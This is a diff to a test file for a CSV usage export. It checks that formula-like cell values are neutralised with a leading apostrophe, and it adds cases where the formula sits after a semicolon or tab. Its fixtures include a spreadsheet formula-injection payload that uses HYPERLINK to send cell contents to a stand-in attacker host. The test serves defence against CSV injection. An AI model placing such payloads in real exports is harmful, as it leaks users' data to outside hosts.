@@ -94,15 +94,17 @@ describe('exportUsage', () => {
     });
   });
 
-  const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '－1', '=HYPERLINK("http://evil.example/?"&A1,"click")'];
+  const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t1', '\r=1', '\n=1', '＝1+1', '－1', '=HYPERLINK("http://evil.example/?"&A1,"click")'];
+  // Spreadsheets of many countries end cells with semicolons.
+  const WITHIN = [['x;=1+1', "x;'=1+1"], ['a\t@SUM(1)', "a\t'@SUM(1)"], ['=1;-2', "'=1;'-2"], ['y;=1,"z', "y;'=1,\"z"]];
   const PLAIN = ['a,b', 'say "yes"', 'two\nlines', 'two\r\nlines', 'a\rb', '"', '""', ',', ' =1', "'quoted", 'Ünïcødé 漢字 🜚', 'x\u0001=1', 'gpt-4', 'a=b', '', ' ', '\u00a0', 'ends with\r\n'];
 
   it('keeps every text as it is, whatever it has in it, and hands no formula to a spreadsheet', async () => {
-    const texts = [...FORMULAS, ...PLAIN];
+    const texts = [...FORMULAS, ...PLAIN, ...WITHIN.map(([text]) => text!)];
     const rows = await scene.settle(...texts.map((agent, i) => scene.row({ occurred_at: new Date(Date.UTC(2026, 9, 1) + i).toISOString(), agent })));
     const file = await scene.file(scene.ours.member);
     expect(ids(file)).toEqual(rows.map((row) => row.id));
-    expect(file.map((line) => line.agent)).toEqual([...FORMULAS.map((formula) => `'${formula}`), ...PLAIN]);
+    expect(file.map((line) => line.agent)).toEqual([...FORMULAS.map((formula) => `'${formula}`), ...PLAIN, ...WITHIN.map(([, shown]) => shown)]);
   });
 
   it('does so with every text that somebody else may have chosen', async () => {
